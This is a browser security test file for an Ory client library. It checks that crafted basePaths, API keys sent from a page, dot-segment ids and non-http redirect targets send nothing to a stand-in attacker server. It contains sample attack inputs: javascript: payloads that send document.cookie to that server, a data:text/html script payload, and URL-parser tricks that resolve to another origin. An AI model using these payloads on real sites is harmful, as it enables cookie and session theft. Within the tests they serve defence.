// Attacks on where requests go and what they carry (security issue items 3, 4, 5 and 9), in
// headless Chromium against the real `fetch` and the browser's own URL parser:
//   - item 5: a basePath the browser resolves to another origin (`/\evil`, a tab or newline the
//     URL parser removes, a `<base href>` injected into the page) must send nothing anywhere;
//   - item 4: an admin key in an explicit `Authorization` header is refused in a page unless
//     `dangerouslyAllowApiKeyInBrowser` is set, and an Authorization or X-Session-Token header
//     never travels with the visitor's cookies;
//   - item 9: `.` and `..` path parameters must not let the browser normalise a request out of
//     its route (`disableMySession({ id: ".." })` must never become `DELETE /`);
//   - item 3: `OryError.redirectBrowserTo` is never a `javascript:` (or any non-http) URL — the
//     README's error handler navigates to it.
//
// Three servers: the page host, "Kratos" (`api`) and an attacker (`evil`), all on localhost so
// the session cookie of the jar would travel to any of them.
import assert from "node:assert/strict";
import { after, before, beforeEach, describe, it } from "node:test";

import { callInPage, expectError, expectOk, launchBrowser, openPage } from "../support/browser.mjs";
import { startServer } from "../support/recording-server.mjs";

let browser, pageServer, api, evil, context, page;

const HARNESS = () => `${pageServer.origin}/tests/browser/harness.html`;

before(async () => {
  pageServer = await startServer({ static: ["/pkg/", "/tests/browser/"] });
  api = await startServer({ allowOrigins: [pageServer.origin] });
  evil = await startServer({ allowOrigins: null });
  browser = await launchBrowser();
  ({ context, page } = await openPage(browser, HARNESS()));
});

after(async () => {
  await browser?.close();
  await evil?.close();
  await api?.close();
  await pageServer?.close();
});

beforeEach(async () => {
  api.reset();
  evil.reset();
  pageServer.reset();
  await context.clearCookies();
  await context.addCookies([
    { name: "ory_kratos_session", value: "cookie-session-value", domain: "localhost", path: "/", httpOnly: true, sameSite: "Lax" },
  ]);
});

const API_KEY = "ory_pat_AttackTransportKey42";
const PASSWORD = "pw-attack-transport-SECRET";
const evilHost = () => `localhost:${evil.port}`;
const apiHost = () => `localhost:${api.port}`;

function call(apiClass, method, args, config = {}, onPage = page) {
  return callInPage(onPage, { api: apiClass, config: { basePath: api.origin, ...config }, method, args });
}

/** Nothing reached the attacker: no request, no preflight. */
function assertEvilUntouched(what) {
  assert.deepEqual(
    evil.requests.map((r) => `${r.method} ${r.path} cookie=${r.headers.cookie}`),
    [],
    `${what}: requests reached the attacker's server`,
  );
  assert.equal(evil.preflights.length, 0, `${what}: a preflight reached the attacker's server`);
}

// ---------------------------------------------------------------------------------------------
// Item 5: basePath
// ---------------------------------------------------------------------------------------------

describe("a basePath that a browser resolves to another origin", () => {
  const tricks = () => [
    `/\\${evilHost()}`,
    `/\\${evilHost()}/api`,
    `\\\\${evilHost()}`,
    `http:\\\\${evilHost()}`,
    `http:/\\${evilHost()}`,
    `http://${apiHost()}\\@${evilHost()}`,
    `http://${apiHost()}@${evilHost()}`,
    `/\t/${evilHost()}`,
    `/\n/${evilHost()}`,
    `/\r\n/${evilHost()}`,
    `ht\ntp://${evilHost()}`,
    `http:${evilHost()}`,
    `http:/${evilHost()}`,
    `http:///${evilHost()}`,
    `http://${apiHost()}\t.evil`,
    `/./\\${evilHost()}`,
    `/.//${evilHost()}`,
    `/%2e//${evilHost()}`,
    `//${evilHost()}`,
  ];

  for (const [label, index] of [
    ["/\\host", 0],
    ["/\\host/api", 1],
    ["\\\\host", 2],
    ["http:\\\\host", 3],
    ["http:/\\host", 4],
    ["http://kratos\\@host", 5],
    ["http://kratos@host", 6],
    ["/<tab>/host", 7],
    ["/<LF>/host", 8],
    ["/<CRLF>/host", 9],
    ["ht<LF>tp://host", 10],
    ["http:host", 11],
    ["http:/host", 12],
    ["http:///host", 13],
    ["http://kratos<tab>.evil", 14],
    ["/./\\host", 15],
    ["/.//host", 16],
    ["/%2e//host", 17],
    ["//host", 18],
  ]) {
    it(`is refused: ${label} (no request, no password, no cookie leaves)`, async () => {
      const basePath = tricks()[index];
      const login = await call("FrontendApi", "updateLoginFlow", [
        { flow: "f1", updateLoginFlowBody: { method: "password", identifier: "a@b.c", password: PASSWORD, csrf_token: "t" } },
      ], { basePath });
      const session = await call("FrontendApi", "toSession", [], { basePath });
      assertEvilUntouched(JSON.stringify(basePath));
      assert.deepEqual(api.requests.map((r) => `${r.method} ${r.path}`), [], "nothing may be sent");
      const error = expectError(login, "invalid_argument");
      assert.match(error.message, /basePath/);
      assert.ok(!error.string.includes(PASSWORD));
      expectError(session, "invalid_argument");
    });
  }

  it("is cross-checked with the browser's own URL parser, at construction and before each fetch", async () => {
    // Chromium's parser and ory-wasm's agree on every basePath ory-wasm accepts (checked with a
    // differential run), so a disagreement is simulated: a page whose `URL` reads the API's host
    // as the attacker's. ory-wasm must believe the browser and send nothing.
    const { page: other, context: otherContext } = await openPage(browser, HARNESS());
    try {
      const outcome = await other.evaluate(async ([basePath, apiOrigin, evilOrigin]) => {
        const { Configuration, FrontendApi } = window.ory;
        const RealURL = URL;
        const lying = (url) => new Proxy(url, {
          get: (target, key) => (key === "origin" && target.origin === apiOrigin ? evilOrigin : Reflect.get(target, key, target)),
        });
        class LyingURL extends RealURL {
          constructor(...args) {
            return lying(new RealURL(...args));
          }
        }
        const describe = async (run) => {
          try {
            await run();
            return "resolved";
          } catch (error) {
            return `${error.kind}: ${error.message}`;
          }
        };
        // Built while URL is honest (its wasm client is made at the first call: one aborted
        // before it is sent), called after it lies: the check before fetch catches it.
        const built = new FrontendApi(new Configuration({ basePath }));
        const first = await describe(() => built.toSession({}, { signal: AbortSignal.abort() }));
        globalThis.URL = LyingURL;
        try {
          return {
            first,
            // A client made while the parser lies: its configuration is refused.
            construction: await describe(() => new FrontendApi(new Configuration({ basePath })).toSession()),
            call: await describe(() => built.toSession()),
          };
        } finally {
          globalThis.URL = RealURL;
        }
      }, [api.origin, api.origin, evil.origin]);
      assert.match(outcome.first, /^aborted: /);
      assert.match(outcome.construction, /^invalid_argument: basePath: the browser's URL parser reads another origin/);
      assert.match(outcome.call, /^invalid_argument: the request URL would leave the configured origin/);
      assert.equal(api.requests.length, 0);
      assertEvilUntouched("lying URL parser");
    } finally {
      await otherContext.close();
    }
  });

  it("ordinary basePaths still work: absolute (any case, default port, trailing slash) and same-origin paths", async () => {
    api.route("GET", "/sessions/whoami", { body: { id: "s1" } });
    for (const basePath of [api.origin, `${api.origin}/`, `HTTP://LOCALHOST:${api.port}`]) {
      assert.deepEqual(expectOk(await call("FrontendApi", "toSession", [], { basePath })), { id: "s1" }, basePath);
    }
    pageServer.route("GET", "/.ory/sessions/whoami", { body: { id: "same-origin" } });
    for (const basePath of ["/.ory", "/.ory/"]) {
      assert.deepEqual(expectOk(await call("FrontendApi", "toSession", [], { basePath })), { id: "same-origin" }, basePath);
    }
    assert.equal(pageServer.requests.length, 2);
    assert.equal(pageServer.requests[0].headers.cookie, "ory_kratos_session=cookie-session-value");
    assertEvilUntouched("ordinary basePaths");
  });

  it("a <base href> injected into the page does not move same-origin requests to another origin", async () => {
    const { page: other, context: otherContext } = await openPage(browser, HARNESS());
    try {
      await otherContext.addCookies([
        { name: "ory_kratos_session", value: "cookie-session-value", domain: "localhost", path: "/", httpOnly: true, sameSite: "Lax" },
      ]);
      await other.evaluate((href) => {
        const base = document.createElement("base");
        base.href = href;
        document.head.prepend(base);
      }, `${evil.origin}/`);
      assert.equal(await other.evaluate(() => document.baseURI), `${evil.origin}/`);
      pageServer.route("GET", "/.ory/sessions/whoami", { body: { id: "same-origin" } });
      const outcome = await call("FrontendApi", "toSession", [], { basePath: "/.ory" }, other);
      assertEvilUntouched("<base href>");
      assert.deepEqual(expectOk(outcome), { id: "same-origin" });
      assert.equal(pageServer.requests.length, 1);
      assert.equal(pageServer.requests[0].path, "/.ory/sessions/whoami");
    } finally {
      await otherContext.close();
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Item 4: Authorization headers in a page
// ---------------------------------------------------------------------------------------------

describe("an explicit Authorization header in a page", () => {
  const cases = [
    ["configuration headers, admin call", "IdentityApi", "listIdentities", [], { headers: { Authorization: `Bearer ${API_KEY}` } }],
    ["configuration headers, lower case", "IdentityApi", "listIdentities", [], { headers: { authorization: `Bearer ${API_KEY}` } }],
    ["call options headers, admin call", "IdentityApi", "listIdentities", [{}, { headers: { AUTHORIZATION: `Bearer ${API_KEY}` } }], {}],
    ["configuration headers, frontend call", "FrontendApi", "toSession", [], { headers: { Authorization: `Bearer ${API_KEY}` } }],
    ["call options headers, frontend call", "FrontendApi", "toSession", [{}, { headers: { Authorization: `Bearer ${API_KEY}` } }], {}],
    ["beside a configured key", "IdentityApi", "listIdentities", [], { apiKey: API_KEY, headers: { Authorization: `Bearer ${API_KEY}` } }],
  ];
  for (const [label, apiClass, method, args, config] of cases) {
    it(`is refused without dangerouslyAllowApiKeyInBrowser: ${label}`, async () => {
      api.route("GET", "/admin/identities", { body: [] });
      api.route("GET", "/sessions/whoami", { body: { id: "s1" } });
      const error = expectError(await call(apiClass, method, args, config), "invalid_argument");
      assert.match(error.message, /dangerouslyAllowApiKeyInBrowser/);
      assert.ok(!error.string.includes(API_KEY), "the key is never in an error");
      assert.equal(api.requests.length, 0, "nothing may be sent");
      assert.equal(api.preflights.length, 0, "not even a preflight");
    });
  }

  it("Proxy-Authorization is refused too", async () => {
    expectError(await call("FrontendApi", "toSession", [{}, { headers: { "Proxy-Authorization": "Basic eDp5" } }]), "invalid_argument");
    assert.equal(api.requests.length, 0);
  });

  it("with the opt-in it is sent, and the visitor's cookies are not", async () => {
    api.route("GET", "/admin/identities", { body: [] });
    api.route("GET", "/sessions/whoami", { body: { id: "s1" } });
    for (const [apiClass, method, args, config] of [
      ["IdentityApi", "listIdentities", [], { headers: { Authorization: `Bearer ${API_KEY}` } }],
      ["FrontendApi", "toSession", [{}, { headers: { authorization: `Bearer ${API_KEY}` } }], {}],
      ["FrontendApi", "toSession", [], { headers: { Authorization: `Bearer ${API_KEY}` }, credentials: "include" }],
    ]) {
      expectOk(await call(apiClass, method, args, { ...config, dangerouslyAllowApiKeyInBrowser: true }));
      const recorded = api.requests.at(-1);
      assert.equal(recorded.headers.authorization, `Bearer ${API_KEY}`);
      assert.equal(recorded.headers.cookie, undefined, `${method}: cookies must not travel with an Authorization header`);
    }
  });

  it("an OAuth2 client secret is refused too; a public client (no secret) and the opt-in are not", async () => {
    const SECRET = "client-secret-Attack789";
    api.route("POST", "/oauth2/revoke", { status: 200, body: {} });
    const args = [{ token: "t" }];
    const error = expectError(await call("OAuth2Api", "revokeOAuth2Token", args, { username: "spa", password: SECRET }), "invalid_argument");
    assert.match(error.message, /client secret/);
    assert.ok(!error.string.includes(SECRET), "the secret is never in an error");
    assert.equal(api.requests.length, 0, "nothing may be sent");
    expectOk(await call("OAuth2Api", "revokeOAuth2Token", args, { username: "spa" }));
    expectOk(await call("OAuth2Api", "revokeOAuth2Token", args, { username: "spa", password: SECRET, dangerouslyAllowApiKeyInBrowser: true }));
    assert.equal(api.requests.length, 2);
    assert.ok(api.requests[1].headers.authorization.startsWith("Basic "));
  });

  it("an access token (the OAuth2 userinfo call) travels without cookies", async () => {
    api.route("GET", "/userinfo", { body: { sub: "u1" } });
    expectOk(await call("OidcApi", "getOidcUserInfo", [], { accessToken: "ory_at_token" }));
    const recorded = api.requests.at(-1);
    assert.equal(recorded.headers.authorization, "Bearer ory_at_token");
    assert.equal(recorded.headers.cookie, undefined);
  });

  it("an X-Session-Token header given in the options travels without cookies", async () => {
    api.route("GET", "/sessions/whoami", { body: { id: "s1" } });
    expectOk(await call("FrontendApi", "toSession", [{}, { headers: { "X-Session-Token": "ory_st_x" } }]));
    expectOk(await call("FrontendApi", "toSession", [], { headers: { "x-session-token": "ory_st_x" } }));
    expectOk(await call("FrontendApi", "toSession", [{ xSessionToken: "ory_st_x" }]));
    assert.equal(api.requests.length, 3);
    for (const recorded of api.requests) {
      assert.equal(recorded.headers["x-session-token"], "ory_st_x");
      assert.equal(recorded.headers.cookie, undefined, "a session token call must not carry cookies");
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Item 9: dot-segment path parameters
// ---------------------------------------------------------------------------------------------

describe("a path parameter that is a dot segment", () => {
  for (const id of ["..", ".", ""]) {
    it(`disableMySession({ id: ${JSON.stringify(id)} }) sends nothing (never DELETE / or /sessions/)`, async () => {
      api.route("DELETE", "/", { status: 204 });
      api.route("DELETE", "/sessions/", { status: 204 });
      api.route("DELETE", "/sessions", { status: 204 });
      expectError(await call("FrontendApi", "disableMySession", [{ id }]), "invalid_argument");
      assert.deepEqual(api.requests.map((r) => `${r.method} ${r.path}`), []);
    });
  }

  it("an admin call with id '..' sends nothing (never GET /admin/identities)", async () => {
    api.route("GET", "/admin/identities", { body: [] });
    api.route("GET", "/admin/", { body: {} });
    const config = { apiKey: API_KEY, dangerouslyAllowApiKeyInBrowser: true };
    expectError(await call("IdentityApi", "getIdentity", [{ id: ".." }], config), "invalid_argument");
    expectError(await call("IdentityApi", "deleteIdentity", [{ id: "." }], config), "invalid_argument");
    expectError(await call("V0alpha2Api", "adminDeleteIdentity", [".."], config), "invalid_argument");
    assert.deepEqual(api.requests.map((r) => `${r.method} ${r.path}`), []);
  });

  it("ids with dots that are not a whole segment reach their route as meant", async () => {
    for (const [id, path] of [
      ["...", "/sessions/..."],
      ["a..b", "/sessions/a..b"],
      [".hidden", "/sessions/.hidden"],
      ["%2e%2e", "/sessions/%252e%252e"],
      ["../x", "/sessions/..%2Fx"],
      ["x/..", "/sessions/x%2F.."],
    ]) {
      api.reset();
      api.route("DELETE", path, { status: 204 });
      expectOk(await call("FrontendApi", "disableMySession", [{ id }]));
      assert.deepEqual(api.requests.map((r) => `${r.method} ${r.path}`), [`DELETE ${path}`], id);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Item 3: redirectBrowserTo
// ---------------------------------------------------------------------------------------------

describe("OryError.redirectBrowserTo", () => {
  const hostile = () => [
    `javascript:fetch("${evil.origin}/pwned?c="+document.cookie)`,
    `JavaScript:fetch("${evil.origin}/pwned")`,
    ` javascript:fetch("${evil.origin}/pwned")`,
    `java\tscript:fetch("${evil.origin}/pwned")`,
    `data:text/html,<script>fetch("${evil.origin}/pwned")</script>`,
    `//${evilHost()}/pwned`,
    `/\\${evilHost()}/pwned`,
    `http:\\\\${evilHost()}/pwned`,
  ];

  for (const [status, errorBody] of [
    [422, (target) => ({ error: { id: "browser_location_change_required", code: 422, reason: "r" }, redirect_browser_to: target })],
    [403, (target) => ({ error: { id: "session_aal2_required", code: 403, details: { redirect_browser_to: target } } })],
  ]) {
    it(`is absent when the ${status} body names a non-http(s) target`, async () => {
      for (const target of hostile()) {
        api.route("GET", "/sessions/whoami", { status, body: errorBody(target) });
        const error = expectError(await call("FrontendApi", "toSession", []), status === 422 ? "browser_location_change_required" : "session_aal2_required");
        assert.equal(error.redirectBrowserTo, undefined, JSON.stringify(target));
      }
    });
  }

  it("keeps an http(s) target", async () => {
    const target = `${api.origin}/self-service/login/browser?aal=aal2&return_to=https%3A%2F%2Fapp.example`;
    api.route("GET", "/sessions/whoami", {
      status: 422,
      body: { error: { id: "browser_location_change_required", code: 422 }, redirect_browser_to: target },
    });
    const error = expectError(await call("FrontendApi", "toSession", []), "browser_location_change_required");
    assert.equal(error.redirectBrowserTo, target);
  });

  it("the README's error handler cannot be made to run the server's script", async () => {
    const { page: other, context: otherContext } = await openPage(browser, HARNESS());
    try {
      api.route("POST", "/self-service/login", {
        status: 422,
        body: {
          error: { id: "browser_location_change_required", code: 422 },
          redirect_browser_to: `javascript:fetch("${evil.origin}/pwned",{method:"POST",body:"ran"})`,
        },
      });
      // The README's example, verbatim in its catch block.
      await other.evaluate(async (basePath) => {
        const { Configuration, FrontendApi, OryError } = window.ory;
        const ory = new FrontendApi(new Configuration({ basePath }));
        try {
          await ory.updateLoginFlow({
            flow: "f1",
            updateLoginFlowBody: { method: "password", identifier: "a@b.c", password: "pw", csrf_token: "t" },
          });
        } catch (error) {
          if (error instanceof OryError && error.kind === "flow_validation") return;
          else if (error instanceof OryError && error.kind === "browser_location_change_required") location.assign(error.redirectBrowserTo);
          else throw error;
        }
      }, api.origin).catch(() => {}); // the page may navigate away; that is fine
      await new Promise((resolve) => setTimeout(resolve, 500));
      assertEvilUntouched("javascript: redirect");
    } finally {
      await otherContext.close();
    }
  });
});
